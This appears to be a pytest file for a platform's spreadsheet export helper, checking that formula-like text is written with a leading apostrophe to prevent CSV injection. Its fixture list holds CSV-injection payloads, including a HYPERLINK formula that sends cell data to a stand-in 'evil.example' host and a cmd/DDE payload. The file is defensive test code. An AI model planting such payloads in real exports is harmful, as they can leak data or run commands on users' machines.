"""Spreadsheets the platform writes never run what people typed: text that a spreadsheet would
take for a formula (= + - @, a tab or a carriage return first) is written with an apostrophe
before it, as OWASP advises against CSV injection, by one helper every export goes through."""

import re
from pathlib import Path

import openpyxl
import pytest

from yunong.core import tabular

SOURCE = Path(__file__).resolve().parents[2] / "src" / "yunong"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此查看详情")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def written(tmp_path: Path, row: list[object]) -> list[openpyxl.cell.cell.Cell]:
    path = tmp_path / "export.xlsx"
    tabular.write_workbook(path, [f"列{index}" for index in range(len(row))], [row])
    return list(openpyxl.load_workbook(path).active[2])


@pytest.mark.parametrize("text", HOSTILE, ids=["formula", "plus", "minus", "at", "tab", "cr"])
def test_text_a_spreadsheet_would_run_is_written_as_text_after_an_apostrophe(tmp_path, text):
    [cell] = written(tmp_path, [text])
    assert cell.data_type == "s"
    # XML reads a carriage return back as a line feed.
    assert cell.value == "'" + text.replace("\r", "\n")


def test_numbers_dates_and_ordinary_text_are_written_as_they_are(tmp_path):
    cells = written(tmp_path, [-5, 1.5, "张建国", "因病住院", "2024-11-05", None])
    assert [cell.value for cell in cells] == [-5, 1.5, "张建国", "因病住院", "2024-11-05", None]
    assert cells[0].data_type == "n"


@pytest.mark.parametrize("text", HOSTILE)
def test_a_csv_cell_gets_the_same_apostrophe(text):
    assert tabular.neutral(text) == "'" + text


def test_no_module_writes_a_spreadsheet_or_csv_but_through_the_helper():
    writers = re.compile(
        r"^import openpyxl$|openpyxl\.Workbook\(|from openpyxl import|from openpyxl\.cell"
        r"|csv\.(writer|DictWriter)\(|\.to_csv\(|\.to_excel\(",
        re.MULTILINE,
    )
    found = [
        str(path.relative_to(SOURCE))
        for path in sorted(SOURCE.rglob("*.py"))
        if path.name != "tabular.py" and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert found == []
